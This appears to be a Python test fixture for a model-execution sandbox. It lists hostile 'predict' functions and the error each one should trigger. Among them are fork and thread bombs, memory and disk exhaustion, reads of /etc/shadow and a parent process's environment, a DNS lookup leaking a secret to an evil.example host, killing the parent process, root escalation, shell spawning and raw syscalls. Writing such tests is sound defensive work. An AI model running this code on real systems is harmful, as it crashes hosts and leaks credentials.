"""Models that attack: what each tries, and the code and the words it gets for it. Real ones, run for real.

Each is a function that stands for ``predict``; it is pickled by value, so it imports what it uses.
"""

# ruff: noqa: PLC0415, PTH101, PTH102, PTH109, PTH120, PTH208, PTH211, S103, S606, SIM115 - pickled by value, and hostile
from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from governance.sandbox import Limits

SMALL = Limits(
    wall_seconds=40,
    cpu_seconds=30,
    memory_bytes=768 * 1024**2,
    file_bytes=4 * 1024**2,
    scratch_bytes=8 * 1024**2,
    noise_bytes=4 * 1024**2,
    threads=32,
)
BRIEF = Limits(wall_seconds=2, memory_bytes=768 * 1024**2)
ONE_SECOND = Limits(wall_seconds=40, cpu_seconds=1, memory_bytes=768 * 1024**2)


@dataclass(frozen=True)
class Hostile:
    """One model. ``said``: words of its message."""

    tries: str
    predict: Callable[[Any], Any]
    code: str
    said: str
    limits: Limits = field(default=SMALL)


def fork_bomb(_rows: Any) -> Any:
    import os

    while True:
        os.fork()


def fork_by_number(_rows: Any) -> Any:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    numbers = [libc.fork(), libc.syscall(58), libc.syscall(56, 17, 0, 0, 0, 0), libc.syscall(435, 0, 0)]
    raise RuntimeError(f"children: {[one for one in numbers if one > 0]}")


def detach(_rows: Any) -> Any:
    import os

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                pass


def new_session(_rows: Any) -> Any:
    import os

    os.setsid()


def thread_bomb(_rows: Any) -> Any:
    import threading
    import time

    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()


def threads_that_stay(rows: Any) -> Any:
    import threading
    import time

    for _ in range(10):
        threading.Thread(target=time.sleep, args=(3600,)).start()
    return [0] * len(rows)


def memory_at_once(_rows: Any) -> Any:
    bytearray(64 * 1024**3)


def memory_bit_by_bit(_rows: Any) -> Any:
    held = []
    while True:
        held.append(b"x" * 1024**2)


def memory_shared(_rows: Any) -> Any:
    import mmap

    held = []
    while True:
        held.append(mmap.mmap(-1, 64 * 1024**2))
        held[-1].write(b"x" * 64 * 1024**2)


def memory_of_files(_rows: Any) -> Any:
    import os

    held = []
    while True:
        held.append(os.memfd_create("hidden"))
        os.write(held[-1], b"x" * 1024**2)


def memory_as_stack(_rows: Any) -> Any:
    import mmap

    held = []
    while True:
        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x100  # it grows downward, so no limit on data counts it
        held.append(mmap.mmap(-1, 64 * 1024**2, flags=flags))
        held[-1].write(b"x" * 64 * 1024**2)


def spin(_rows: Any) -> Any:
    while True:
        pass


def spin_deaf(_rows: Any) -> Any:
    import signal

    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    while True:
        pass


def sleep(_rows: Any) -> Any:
    import time

    time.sleep(3600)


def sleep_deaf(_rows: Any) -> Any:
    import signal
    import time

    for number in (1, 2, 3, 15):
        signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(3600)


def socket_4(_rows: Any) -> Any:
    import socket

    socket.create_connection(("127.0.0.1", 9), timeout=1)


def socket_6(_rows: Any) -> Any:
    import socket

    socket.socket(socket.AF_INET6).connect(("::1", 9))


def socket_unix(_rows: Any) -> Any:
    import socket

    socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")


def socket_abstract(_rows: Any) -> Any:
    import socket

    socket.socket(socket.AF_UNIX).connect("\0systemd")


def look_up(_rows: Any) -> Any:
    import socket

    socket.getaddrinfo("secret-in-a-name.evil.example", 443)


def socket_by_number(_rows: Any) -> Any:
    import ctypes
    import errno

    libc = ctypes.CDLL(None, use_errno=True)
    answers = [libc.socket(family, kind, 0) for family in (1, 2, 10, 16, 17, 40) for kind in (1, 2, 3)]
    raise RuntimeError(f"sockets: {[one for one in answers if one >= 0]} {errno.errorcode[ctypes.get_errno()]}")


def read_shadow(_rows: Any) -> Any:
    raise RuntimeError(open("/etc/shadow").read())


def read_parents_environment(_rows: Any) -> Any:
    import os

    raise RuntimeError(open(f"/proc/{os.getppid()}/environ", "rb").read())


def list_processes(_rows: Any) -> Any:
    import os

    raise RuntimeError(os.listdir("/proc"))


def other_runs(_rows: Any) -> Any:
    import os

    raise RuntimeError(os.listdir(os.path.dirname(os.path.dirname(os.getcwd()))))


def own_environment(_rows: Any) -> Any:
    import os

    raise RuntimeError(f"found {[name for name in os.environ if 'SECRET' in name or 'DATABASE' in name]}")


def write_outside(_rows: Any) -> Any:
    open("/tmp/countersign-was-here", "w").write("x")


def write_to_shared_memory(_rows: Any) -> Any:
    open("/dev/shm/countersign-was-here", "w").write("x")


def fill_one_file(_rows: Any) -> Any:
    with open("big", "wb") as handle:
        while True:
            handle.write(bytes(1024**2))


def fill_many_files(_rows: Any) -> Any:
    number = 0
    while True:
        number += 1
        with open(f"part-{number}", "wb") as handle:
            handle.write(bytes(1024**2))


def million_files(_rows: Any) -> Any:
    for number in range(1_000_000):
        open(f"{number}", "w").close()


def nested_directories(_rows: Any) -> Any:
    import os

    while True:
        os.mkdir("d" * 8)
        os.chdir("d" * 8)


def gigabyte_of_complaints(_rows: Any) -> Any:
    import sys

    for _ in range(1024):
        sys.stderr.write("x" * 1024**2)


def garbage_on_the_channel(rows: Any) -> Any:
    import os

    for descriptor in range(3, 256):
        try:
            os.write(descriptor, b'{"done": 1e400}\n\xff\xfe[[[\n{"layers": {}}\n' + b"x" * 200_000 + b"\n")
        except OSError:
            continue
    return [0] * len(rows)


def garbage_without_end(_rows: Any) -> Any:
    import os

    while True:
        os.write(3, b"[" * 65_536)


def too_few_rows(rows: Any) -> Any:
    return [0] * (len(rows) - 1)


def too_many_rows(rows: Any) -> Any:
    return [0] * (len(rows) * 1000)


def not_a_number(rows: Any) -> Any:
    return [float("nan")] * len(rows)


def infinite(rows: Any) -> Any:
    return [float("-inf")] * len(rows)


def nothing_for_a_row(rows: Any) -> Any:
    return [None] * len(rows)


def a_table_for_a_row(rows: Any) -> Any:
    return [[1, 2]] * len(rows)


def huge_texts(rows: Any) -> Any:
    return ["x" * 1024**2] * len(rows)


def answer_by_symlink(_rows: Any) -> Any:
    import os

    os.symlink("/etc/passwd", "predictions.arrow")


def sealed_file_by_hardlink(_rows: Any) -> Any:
    import os

    os.link("../model/MLmodel", "mine")


def change_the_sealed_file(_rows: Any) -> Any:
    import os

    os.chmod("../model", 0o777)
    open("../model/MLmodel", "w").write("changed")


def answer_by_pipe(_rows: Any) -> Any:
    import os

    os.mkfifo("answer.json")


def answer_is_a_directory(_rows: Any) -> Any:
    import os

    os.mkdir("answer.json")
    os._exit(0)


def forged_answer(_rows: Any) -> Any:
    import os

    open("predictions.arrow", "wb").write(b"ARROW1\0\0" + b"\xff" * 400 + b"ARROW1")
    open("answer.json", "w").write('{"code": "ok", "report": {}}')
    os._exit(0)


def nested_answer(_rows: Any) -> Any:
    import os

    open("answer.json", "w").write("[" * 1_000_000)
    os._exit(0)


def by_number(number: int, *arguments: int) -> Callable[[Any], Any]:
    def predict(_rows: Any) -> Any:
        import ctypes

        raise RuntimeError(ctypes.CDLL(None).syscall(number, *arguments))

    return predict


def kill_the_parent(_rows: Any) -> Any:
    import os

    os.kill(os.getppid(), 9)


def kill_by_number(_rows: Any) -> Any:
    import ctypes
    import os

    libc, parent = ctypes.CDLL(None), os.getppid()
    answers = [libc.syscall(62, parent, 0), libc.syscall(200, parent, 0), libc.syscall(234, parent, parent, 0)]
    raise RuntimeError(f"reached {[one for one in answers if one != -1]}")


def slow_the_parent(_rows: Any) -> Any:
    import os

    os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)


def become_root(_rows: Any) -> Any:
    import os

    os.setresuid(0, 0, 0) if os.getuid() else os.chroot("/")


def run_a_setuid_program(_rows: Any) -> Any:
    import os

    os.execv("/bin/su", ["su"])


def run_a_shell(_rows: Any) -> Any:
    import subprocess

    subprocess.run(["/bin/sh", "-c", "id"], check=False)


def raise_its_limits(_rows: Any) -> Any:
    import resource

    resource.setrlimit(resource.RLIMIT_DATA, (2**40, 2**40))


def leave_silently(_rows: Any) -> Any:
    import os

    os._exit(0)


def leave_loudly(_rows: Any) -> Any:
    raise SystemExit(0)


def crash(_rows: Any) -> Any:
    import ctypes

    ctypes.string_at(0)


CALL = "made a system call that the sandbox forbids"
TABLE: dict[str, Hostile] = {
    "fork bomb": Hostile("fork for ever", fork_bomb, "forbidden", "tried to start a process"),
    "fork by number": Hostile("fork, vfork, clone and clone3 past Python", fork_by_number, "raised", "children: []"),
    "double fork": Hostile("leave a process of its own behind", detach, "forbidden", "tried to start a process"),
    "new session": Hostile("leave its process group", new_session, "forbidden", "Operation not permitted"),
    "thread bomb": Hostile("start threads for ever", thread_bomb, "raised", "can't start new thread"),
    "threads that stay": Hostile("leave threads behind its answer", threads_that_stay, "ok", "scored 40 rows"),
    "memory at once": Hostile("64 GiB in one piece", memory_at_once, "memory", "768 MiB"),
    "memory bit by bit": Hostile("a megabyte again and again", memory_bit_by_bit, "memory", "768 MiB"),
    "shared memory": Hostile("memory that no limit counts: shared", memory_shared, "memory", "768 MiB"),
    "memory files": Hostile("memory that no limit counts: files", memory_of_files, "forbidden", "not permitted"),
    "memory as stack": Hostile("memory that no limit counts: stack", memory_as_stack, "memory", "768 MiB"),
    "spin": Hostile("compute for ever", spin, "cpu", "more than 1 seconds of CPU", ONE_SECOND),
    "spin, deaf": Hostile("the same, ignoring signals", spin_deaf, "cpu", "more than 1 seconds of CPU", ONE_SECOND),
    "sleep": Hostile("wait for ever", sleep, "timeout", "at its limit of 2 seconds", BRIEF),
    "sleep, deaf": Hostile("the same, ignoring signals", sleep_deaf, "timeout", "at its limit of 2 seconds", BRIEF),
    "IPv4": Hostile("open a connection", socket_4, "forbidden", "tried to"),
    "IPv6": Hostile("open a connection", socket_6, "forbidden", "tried to open a socket"),
    "unix socket": Hostile("talk to Docker", socket_unix, "forbidden", "tried to open a socket"),
    "abstract socket": Hostile("talk to a service without a file", socket_abstract, "forbidden", "open a socket"),
    "name service": Hostile("tell a secret in a name", look_up, "forbidden", "tried to look up a host"),
    "socket by number": Hostile("the same past Python", socket_by_number, "raised", "sockets: [] EPERM"),
    "shadow": Hostile("read /etc/shadow", read_shadow, "forbidden", "/etc/shadow"),
    "environment": Hostile("read the worker's environment", read_parents_environment, "forbidden", "/environ"),
    "processes": Hostile("list other processes", list_processes, "forbidden", "/proc"),
    "other runs": Hostile("list other runs", other_runs, "forbidden", "Permission denied"),
    "own environment": Hostile("find secrets in its environment", own_environment, "raised", "found []"),
    "write outside": Hostile("leave a file in /tmp", write_outside, "forbidden", "/tmp/countersign-was-here"),
    "write to memory": Hostile("leave a file in /dev/shm", write_to_shared_memory, "forbidden", "/dev/shm"),
    "one huge file": Hostile("fill the disk", fill_one_file, "output_too_large", "wrote"),
    "many files": Hostile("fill the disk", fill_many_files, "output_too_large", "more than 8388608 bytes"),
    "a million files": Hostile("use up the inodes", million_files, "output_too_large", "more than 8388608 bytes"),
    "deep directories": Hostile("a tree too deep to remove", nested_directories, "output_too_large", "wrote more than"),
    "a gigabyte of complaints": Hostile("drown the log", gigabyte_of_complaints, "output_too_large", "error output"),
    "garbage": Hostile("lie on the channel", garbage_on_the_channel, "ok", "scored 40 rows"),
    "endless garbage": Hostile("keep the worker reading", garbage_without_end, "output_too_large", "messages"),
    "too few rows": Hostile("answer for fewer rows", too_few_rows, "output_invalid", "39 predictions for 40 rows"),
    "too many rows": Hostile("answer for more rows", too_many_rows, "output_invalid", "40000 predictions for 40 rows"),
    "NaN": Hostile("poison the statistics", not_a_number, "output_invalid", "not finite numbers"),
    "infinity": Hostile("poison the statistics", infinite, "output_invalid", "not finite numbers"),
    "nothing": Hostile("answer nothing", nothing_for_a_row, "output_invalid", "40 values of “prediction” are missing"),
    "a table": Hostile("answer in two dimensions", a_table_for_a_row, "raised", "2 dimensions"),
    "huge texts": Hostile("answer 40 MiB of text", huge_texts, "output_too_large", "File too large"),
    "symlink": Hostile("have the worker read a file for it", answer_by_symlink, "forbidden", "predictions.arrow"),
    "hardlink": Hostile("take hold of a sealed file", sealed_file_by_hardlink, "forbidden", "../model/MLmodel"),
    "sealed file": Hostile("change a sealed file", change_the_sealed_file, "forbidden", "../model"),
    "pipe": Hostile("have the worker wait on a pipe", answer_by_pipe, "forbidden", "Permission denied"),
    "directory": Hostile("answer by a directory", answer_is_a_directory, "output_invalid", "not a plain file"),
    "forged answer": Hostile("write the answer itself", forged_answer, "output_invalid", "not a valid Arrow file"),
    "nested answer": Hostile("overflow the parser", nested_answer, "output_invalid", "is not JSON"),
    "ptrace": Hostile("trace itself", by_number(101, 0, 0, 0, 0), "forbidden", CALL),
    "mount": Hostile("mount", by_number(165, 0, 0, 0, 0, 0), "forbidden", CALL),
    "unshare": Hostile("become root in a namespace", by_number(272, 0x10000000), "forbidden", CALL),
    "setns": Hostile("enter another namespace", by_number(308, 0, 0), "forbidden", CALL),
    "io_uring": Hostile("calls that no filter sees", by_number(425, 8, 0), "forbidden", CALL),
    "bpf": Hostile("load code into the kernel", by_number(321, 0, 0, 0), "forbidden", CALL),
    "keyctl": Hostile("read the kernel's keys", by_number(250, 0, 0), "forbidden", CALL),
    "other memory": Hostile("write another process's memory", by_number(311, 1, 0, 0, 0, 0, 0), "forbidden", CALL),
    "old calls": Hostile("32-bit calls, that have other numbers", by_number(0x40000000 + 41), "forbidden", CALL),
    "kill": Hostile("kill its parent", kill_the_parent, "forbidden", "tried to signal another process"),
    "kill by number": Hostile("the same past Python", kill_by_number, "raised", "reached []"),
    "slow down": Hostile("take the worker's share", slow_the_parent, "forbidden", "not permitted"),
    "setuid": Hostile("become root", become_root, "forbidden", "not permitted"),
    "setuid program": Hostile("run a program that is root", run_a_setuid_program, "forbidden", "start a program"),
    "shell": Hostile("run a shell", run_a_shell, "forbidden", "tried to start a program"),
    "limits": Hostile("raise its limits", raise_its_limits, "raised", "not allowed to raise maximum limit"),
    "exit 0": Hostile("leave without an answer", leave_silently, "killed", "left the process without an answer"),
    "SystemExit": Hostile("leave by an exception", leave_loudly, "raised", "SystemExit"),
    "crash": Hostile("crash", crash, "killed", "died with SIGSEGV"),
}
